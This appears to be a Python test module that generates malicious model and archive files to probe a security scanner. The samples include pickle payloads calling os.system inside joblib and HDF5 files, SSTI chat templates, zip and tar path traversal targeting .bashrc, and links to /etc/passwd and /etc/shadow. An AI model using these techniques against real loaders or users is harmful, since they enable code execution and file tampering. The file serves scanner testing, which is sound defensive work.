"""Round three: loaders that unpickle where a scanner may not look (joblib dtype spellings,
PyTables-style pickled HDF5 attributes, HF tokenizer chat templates),
and archive members a scanner cannot read (encrypted, PAX-renamed)."""

from __future__ import annotations

import io
import json
import os
import struct
import tarfile
import zipfile
from functools import partial
from pathlib import Path

from tests.scan.redteam.build import Call, Case, file_case, put, shell, zip_bytes
from tests.scan.redteam.cases_formats import _ssti, evil_pickle

GAPS: dict[str, str] = {
}
"""Sample id → the scanner gap it shows today (measured; the test is a strict xfail)."""


def _joblib_object(canary: Path, dtype_spelling: bytes) -> bytes:
    """A joblib (protocol 2) dump of an object array holding a payload, its wrapper's dtype
    respelled: joblib reads the bytes after the wrapper with pickle.load when dtype.hasobject."""
    import joblib
    import numpy as np

    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = "label", Call(os.system, shell(canary))
    buf = io.BytesIO()
    joblib.dump({"labels": arr}, buf, protocol=2)
    data = buf.getvalue()
    original = b"X\x02\x00\x00\x00O8"
    if original not in data:
        raise AssertionError("joblib no longer writes the wrapper dtype as 'O8'")
    return data.replace(original, dtype_spelling, 1)


def joblib_cases() -> list[Case]:
    spec = [("dtype-word-object", b"X\x06\x00\x00\x00object", "wrapper dtype spelled 'object'"),
            ("dtype-global-object", b"cnumpy\nobject_\n",
             "wrapper dtype built from the numpy.object_ class"),
            ("dtype-O", b"X\x01\x00\x00\x00O", "wrapper dtype spelled 'O'")]
    return [file_case(f"joblib-{key}", "malicious", f"joblib object array: {tech}",
                      f"{key}.joblib", partial(_joblib_spelled, spelling),
                      GAPS.get(f"joblib-{key}")) for key, spelling, tech in spec]


def _joblib_spelled(spelling: bytes, canary: Path) -> bytes:
    return _joblib_object(canary, spelling)


def _hdf5_pickled_attr(canary: Path) -> bytes:
    """PyTables unpickles string attributes that hold a pickle (pandas.read_hdf reads them)."""
    import h5py
    import numpy as np

    payload = b"cos\nsystem\n(S'" + shell(canary).encode() + b"'\ntR."
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        grp = f.create_group("df")
        grp.attrs["CLASS"] = np.bytes_(b"GROUP")
        grp.attrs["TITLE"] = np.bytes_(b"")
        grp.attrs["VERSION"] = np.bytes_(b"1.0")
        grp.attrs["pandas_type"] = np.bytes_(b"frame")
        grp.attrs["non_index_axes"] = np.bytes_(payload)
        grp.create_dataset("axis0", data=np.arange(3))
    return buf.getvalue()


def _hf_dir(folder: Path, canary: Path, *, jinja_file: bool) -> Path:
    root = folder / "hf-model"
    template = _ssti(shell(canary))["namespace-globals"][0]
    config = {"model_type": "llama", "architectures": ["LlamaForCausalLM"]}
    put(root, "config.json", json.dumps(config).encode())
    tok = {"bos_token": "<s>", "eos_token": "</s>", "tokenizer_class": "LlamaTokenizer"}
    if jinja_file:
        put(root, "chat_template.jinja", template.encode())
    else:
        tok["chat_template"] = template
    put(root, "tokenizer_config.json", json.dumps(tok).encode())
    from safetensors.numpy import save

    put(root, "model.safetensors", save({"w": __import__("numpy").ones(4, dtype="float32")}))
    return root


def _encrypted_flag(canary: Path) -> bytes:
    """A stored member with the 'encrypted' flag set: a scanner cannot read it."""
    data = zip_bytes([("model/model.pkl", evil_pickle(canary))])
    buf = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        offset = zf.getinfo("model/model.pkl").header_offset
    struct.pack_into("<H", buf, offset + 6, 1)
    cd = data.rfind(b"PK\x01\x02")
    struct.pack_into("<H", buf, cd + 8, 1)
    return bytes(buf)


def _pax_renamed(canary: Path) -> bytes:
    """A tar member whose ustar name is harmless and whose PAX ``path`` record climbs out."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        body = b"echo pwned\n"
        info = tarfile.TarInfo("model/README.txt")
        info.size, info.mtime = len(body), 1_704_067_200
        info.pax_headers = {"path": "../../../../home/user/.bashrc"}
        tf.addfile(info, io.BytesIO(body))
    return buf.getvalue()


def _keras_dup_config(canary: Path) -> bytes:
    """Two config.json members: Python's zipfile (what Keras reads with) returns the last."""
    from tests.scan.redteam.cases_formats import _DENSE, _lambda, _sequential, keras_file

    good = keras_file(_sequential("s", [_DENSE]))
    with zipfile.ZipFile(io.BytesIO(good)) as zf:
        members = [(i.filename, zf.read(i)) for i in zf.infolist()]
    evil = json.dumps(_sequential("s", [_DENSE, _lambda(canary)])).encode()
    return zip_bytes([*members, ("config.json", evil)])


def round3_cases() -> list[Case]:
    out = joblib_cases() + archive_path_cases() + round3b_cases()
    out += [
        file_case("hdf5-pytables-pickled-attr", "malicious",
                  "HDF5 (pandas/PyTables layout) whose string attribute is a pickle PyTables "
                  "unpickles on read", "store.h5", _hdf5_pickled_attr,
                  GAPS.get("hdf5-pytables-pickled-attr")),
        Case("hf-tokenizer-config-ssti", "malicious",
             "HF model folder: SSTI in tokenizer_config.json chat_template",
             partial(_hf_dir, jinja_file=False), GAPS.get("hf-tokenizer-config-ssti")),
        Case("hf-chat-template-jinja-ssti", "malicious",
             "HF model folder: SSTI in chat_template.jinja", partial(_hf_dir, jinja_file=True),
             GAPS.get("hf-chat-template-jinja-ssti")),
        file_case("container-encrypted-member", "malicious",
                  "zip member model.pkl flagged encrypted (unreadable: must fail closed)",
                  "locked.zip", _encrypted_flag, GAPS.get("container-encrypted-member")),
        file_case("container-tar-pax-path-traversal", "malicious",
                  "tar member renamed by a PAX path record to ../../.bashrc", "pax.tar",
                  _pax_renamed, GAPS.get("container-tar-pax-path-traversal")),
        file_case("keras-duplicate-config-json", "malicious",
                  "two config.json members, hostile last (zipfile returns the last)",
                  "dup.keras", _keras_dup_config, GAPS.get("keras-duplicate-config-json")),
    ]
    return out


def _zip_symlink(canary: Path) -> bytes:
    """A zip entry whose Unix mode marks it a symlink (``unzip`` creates it) to /etc/passwd."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("model/config.json", b"{}")
        info = zipfile.ZipInfo("model/pytorch_model.bin", date_time=(2024, 1, 1, 0, 0, 0))
        info.external_attr = (0o120777 << 16)
        info.create_system = 3
        zf.writestr(info, b"/etc/passwd")
    return buf.getvalue()


def _tar_hardlink(canary: Path) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        info = tarfile.TarInfo("model/pytorch_model.bin")
        info.type, info.linkname, info.mtime = tarfile.LNKTYPE, "../../../../etc/shadow", 0
        tf.addfile(info)
    return buf.getvalue()


def archive_path_cases() -> list[Case]:
    spec = [
        ("zip-backslash-traversal", "zip member '..\\\\..\\\\AppData\\\\evil.bat' (Windows "
         "extractors treat \\\\ as a separator)", "bs.zip",
         lambda c: zip_bytes([("..\\..\\AppData\\Roaming\\evil.bat", b"calc\r\n")])),
        ("zip-drive-letter", "zip member 'C:/Windows/System32/evil.dll'", "drive.zip",
         lambda c: zip_bytes([("C:/Windows/System32/evil.dll", b"MZ")])),
        ("zip-symlink-entry", "zip entry with a symlink mode pointing at /etc/passwd", "link.zip",
         _zip_symlink),
        ("tar-hardlink-out", "tar hard link to ../../../../etc/shadow", "hl.tar", _tar_hardlink),
    ]
    return [file_case(f"container-{key}", "malicious", tech, rel, fn, GAPS.get(f"container-{key}"))
            for key, tech, rel, fn in spec]


def _encrypted_7z(folder: Path, canary: Path, *, headers: bool) -> Path:
    import py7zr

    path = folder / ("enc_headers.7z" if headers else "enc.7z")
    folder.mkdir(parents=True, exist_ok=True)
    with py7zr.SevenZipFile(path, "w", password="secret", header_encryption=headers) as archive:
        archive.writestr(evil_pickle(canary), "model/model.pkl")
    return path


def _gguf_template(key: str, template: str, folder: Path, canary: Path) -> Path:
    from tests.scan.redteam.cases_formats import gguf_file

    return gguf_file(folder / f"{key}.gguf", {"tokenizer.chat_template": template})


def round3b_cases() -> list[Case]:
    ssti = _ssti("touch /nonexistent/canary")["namespace-globals"][0]
    templates = {
        "comment-padding": ("{# " + "x" * 3_000_000 + " #}" + ssti,
                            "payload after a 3 MB template comment"),
        "whitespace-padding": (" " * 3_000_000 + ssti, "payload after 3 MB of whitespace"),
        "nested-if-3000": ("{% if true %}" * 3000 + ssti + "{% endif %}" * 3000,
                           "payload inside 3,000 nested {% if %} blocks (parser recursion)"),
    }
    out = [Case(f"gguf-ssti-{key}", "malicious", tech, partial(_gguf_template, key, text),
                GAPS.get(f"gguf-ssti-{key}")) for key, (text, tech) in templates.items()]
    for headers in (False, True):
        id_ = "container-7z-encrypted" + ("-headers" if headers else "")
        out.append(Case(id_, "malicious", "password-protected 7z holding model.pkl"
                        + (" (encrypted headers)" if headers else "") + ": must fail closed",
                        partial(_encrypted_7z, headers=headers), GAPS.get(id_)))
    return out
